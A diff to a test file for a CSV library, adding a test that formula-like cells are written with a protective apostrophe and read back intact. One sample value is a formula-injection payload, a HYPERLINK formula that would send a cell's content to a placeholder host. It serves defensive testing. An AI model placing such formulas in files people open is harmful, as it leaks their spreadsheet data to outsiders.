@@ -1,4 +1,5 @@
 import fc from 'fast-check';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { detectCsvType, readCsv, validateCsv, writeCsv, type Locale } from '../src/index.js';
 import { anyObservation } from './random.js';
@@ -286,6 +287,18 @@ describe('writeCsv', () => {
   it('writes columns in the order of the schema, with CRLF rows and quoting where needed', () => {
     const csv = writeCsv('facility', [{ facilityType: 'prison', id: 'f-1', country: 'ZA', name: 'A "big", old prison' }]);
     expect(csv).toBe('id,name,country,facilityType\r\nf-1,"A ""big"", old prison",ZA,prison\r\n');
+  });
+
+  it('writes a text Excel would run as a formula after an apostrophe, which readCsv drops, and numbers as they are', () => {
+    const notes = ['=HYPERLINK("https://example.org/?"&A1)', '- see the annual report', '+380 counts', '@once', '\tindented', "'=quoted", "'plain", 'a=b'];
+    const records = notes.map((note, i) => ({ id: `f-${i}`, country: 'ZA', facilityType: 'prison', name: note, capacity: -5 }));
+    const csv = writeCsv('facility', records);
+    const cells = Papa.parse<string[]>(csv.trim()).data.slice(1).map((row) => row[1]);
+    expect(cells).toEqual(["'=HYPERLINK(\"https://example.org/?\"&A1)", "'- see the annual report", "'+380 counts", "'@once", "'\tindented", "''=quoted", "'plain", 'a=b']);
+    expect(csv).toContain(',-5\r\n');
+    expect(readCsv(csv).records.map((record) => record.name)).toEqual(notes);
+    // Excel takes the apostrophe as its mark of a text cell: saved again, the cell is the text alone, read as it is.
+    expect(readCsv(csv.replace(/'(?=[=+\-@\t])/g, '')).records.map((record) => record.name)).toEqual(notes.map((note) => note.replace(/^'(?=[=+\-@\t])/, '')));
   });
 
   it('writes a byte order mark and another separator on request', () => {
